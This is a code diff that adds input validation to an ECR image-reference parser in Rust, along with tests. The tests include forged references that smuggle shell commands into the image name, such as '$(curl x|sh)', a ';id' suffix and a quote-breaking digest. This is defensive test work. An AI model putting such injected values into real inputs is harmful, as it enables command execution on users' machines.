@@ -370,6 +370,25 @@ impl EcrImage {
             Some((r, t)) => (r.to_string(), Some(t.to_string())),
             None => (name.to_string(), None),
         };
+        // The parts go into commands people paste: only ECR's own grammar gets there.
+        let within = |text: &str, max: usize, allowed: fn(u8) -> bool| {
+            (1..=max).contains(&text.len()) && text.bytes().all(allowed)
+        };
+        let well_formed = account.bytes().all(|b| b.is_ascii_digit())
+            && within(&repository, 256, |b| {
+                b.is_ascii_lowercase() || b.is_ascii_digit() || b"._/-".contains(&b)
+            })
+            && tag.as_deref().is_none_or(|t| {
+                within(t, 128, |b| b.is_ascii_alphanumeric() || b"_.-".contains(&b))
+            })
+            && digest.as_deref().is_none_or(|d| {
+                within(d, 200, |b| {
+                    b.is_ascii_alphanumeric() || b":=_+.-".contains(&b)
+                })
+            });
+        if !well_formed {
+            return None;
+        }
         Some(EcrImage {
             account,
             region,
@@ -404,6 +423,14 @@ mod tests {
         let d = EcrImage::parse("1.dkr.ecr.us-east-1.amazonaws.com/web@sha256:abc").unwrap();
         assert_eq!(d.image_id(), "imageDigest=sha256:abc");
         assert!(EcrImage::parse("nginx:latest").is_none());
+        for forged in [
+            "111122223333.dkr.ecr.ap-northeast-2.amazonaws.com/web$(curl x|sh):1",
+            "111122223333.dkr.ecr.ap-northeast-2.amazonaws.com/web:1;id",
+            "111122223333.dkr.ecr.ap-northeast-2.amazonaws.com/web@sha256:ab'c",
+            "111122223333.dkr.ecr.ap-northeast-2.amazonaws.com/Web:1",
+        ] {
+            assert!(EcrImage::parse(forged).is_none(), "{forged}");
+        }
     }
 
     #[test]
